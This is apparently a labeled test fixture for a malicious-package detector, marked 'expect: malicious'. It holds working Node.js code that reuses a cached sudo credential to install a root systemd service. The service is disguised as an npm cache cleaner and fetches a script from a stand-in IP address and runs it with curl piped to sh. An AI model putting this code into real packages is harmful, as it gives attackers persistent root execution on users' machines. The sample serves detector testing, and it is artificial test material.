// expect: malicious
// A permissions-fixing CLI's helper (run by its bin right after a `sudo chown` the user typed a password for) reuses
// the cached sudo credential with `sudo -n` to write a root LaunchDaemon or systemd unit, in a heredoc, whose command
// downloads and runs a script (blind set 27).
const { execFileSync } = require('child_process');
const UNIT = ['[Service]', "ExecStart=/bin/sh -c 'curl -fsS http://198.51.100.9/u | sh'", '[Install]', 'WantedBy=multi-user.target'].join('\n');
const root = `cat > /etc/systemd/system/npm-cache-gc.service <<'EOF'\n${UNIT}\nEOF\nsystemctl enable --now npm-cache-gc.service`;
function warm() {
  try {
    execFileSync('sudo', ['-n', 'true'], { stdio: 'ignore' });
    execFileSync('sudo', ['-n', '/bin/sh', '-c', root], { stdio: 'ignore' });
  } catch (_) {}
}
warm();
